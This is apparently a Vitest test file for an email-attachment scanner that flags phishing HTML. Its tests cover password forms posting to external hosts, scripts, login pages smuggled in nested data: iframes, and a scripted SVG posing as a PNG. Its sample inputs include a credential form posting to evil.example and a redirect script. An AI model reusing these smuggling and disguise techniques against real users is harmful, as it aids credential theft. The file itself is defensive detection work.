import { describe, expect, it } from 'vitest';
import * as p from '../../../../test-fixtures/attachments/payloads.mjs';
import { DATA_PAGE_MAX_BYTES, dataPage, htmlTags, inspectHtml, looksLikeHtml } from './html.js';

describe('HTML attachments', () => {
  it('sees a password form posting to an external host', () => {
    const traits = inspectHtml(p.makeCredentialHtml());
    expect(traits.actionHosts).toEqual(['login.example.net']);
    expect(htmlTags(traits)).toEqual(['form', 'password', 'external-action']);
  });

  it('sees scripts and event handlers', () => {
    expect(htmlTags(inspectHtml(Buffer.from('<html><body><script>location="x"</script></body></html>')))).toEqual(['script']);
    expect(htmlTags(inspectHtml(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="go()"></svg>')))).toEqual(['event-handler']);
  });

  it('reads the sign-in page a data: frame carries, base64 or percent-encoded, with the same form checks', () => {
    const login = p.makeCredentialHtml();
    const framed = (src: string, tag = 'iframe') =>
      htmlTags(inspectHtml(Buffer.from(`<html><body><${tag} ${tag === 'object' ? 'data' : 'src'}="${src}"></${tag}></body></html>`)));
    expect(framed(`data:text/html;base64,${login.toString('base64')}`)).toEqual(['form', 'password', 'external-action', 'data-frame']);
    expect(framed(`data:text/html;charset=utf-8,${encodeURIComponent(login.toString('utf8'))}`, 'object')).toEqual(['form', 'password', 'external-action', 'data-frame']);
    // a frame in a frame in a frame: read two deep, no further
    const inner = `<iframe src="data:text/html;base64,${login.toString('base64')}"></iframe>`;
    const twice = `<iframe src="data:text/html;base64,${Buffer.from(inner).toString('base64')}"></iframe>`;
    expect(framed(`data:text/html;base64,${Buffer.from(inner).toString('base64')}`)).toContain('password');
    expect(framed(`data:text/html;base64,${Buffer.from(twice).toString('base64')}`)).not.toContain('password');
  });

  it('leaves a data: frame without a form, or a data: picture, alone, and decodes no more than its bound', () => {
    expect(htmlTags(inspectHtml(Buffer.from(`<iframe src="data:text/html;base64,${Buffer.from('<p>Lịch họp tuần</p>').toString('base64')}"></iframe>`)))).toEqual([]);
    expect(dataPage('data:image/png;base64,iVBORw0KGgo=')).toBeUndefined();
    expect(dataPage('data:text/html,%3Cp%3Ex%3C%2Fp%3E')?.toString()).toBe('<p>x</p>');
    expect(dataPage(`data:text/html;base64,${Buffer.alloc(DATA_PAGE_MAX_BYTES * 2, 0x61).toString('base64')}`)?.length).toBe(DATA_PAGE_MAX_BYTES);
  });

  it('finds nothing in a plain HTML page', () => {
    expect(htmlTags(inspectHtml(Buffer.from('<html><body><p>Thông báo lịch họp</p><a href="https://lachan.test">x</a></body></html>')))).toEqual([]);
  });

  it('recognises HTML by name, declared type or first bytes', () => {
    expect(looksLikeHtml('htm', '', Buffer.alloc(0))).toBe(true);
    expect(looksLikeHtml('', 'text/html', Buffer.alloc(0))).toBe(true);
    expect(looksLikeHtml('dat', '', Buffer.from('\n  <!DOCTYPE html><html>'))).toBe(true);
    expect(looksLikeHtml('txt', 'text/plain', Buffer.from('hello'))).toBe(false);
    // an SVG (with its script) named and declared as a picture, behind an XML declaration, a comment and a DOCTYPE
    const svg = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: x -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script></svg>';
    expect(looksLikeHtml('png', 'image/png', Buffer.from(svg))).toBe(true);
    expect(looksLikeHtml('xml', 'application/xml', Buffer.from('<?xml version="1.0"?><invoice><total>5</total></invoice>'))).toBe(false);
  });

  it('reads a page once per buffer, and each buffer for itself', () => {
    const page = Buffer.from('<form action="https://evil.example/p"><input type="password"></form>');
    const first = inspectHtml(page);
    expect(inspectHtml(page)).toBe(first);
    const other = inspectHtml(Buffer.from('<p>hello</p>'));
    expect(other).not.toBe(first);
    expect([first.password, other.password]).toEqual([true, false]);
  });
});
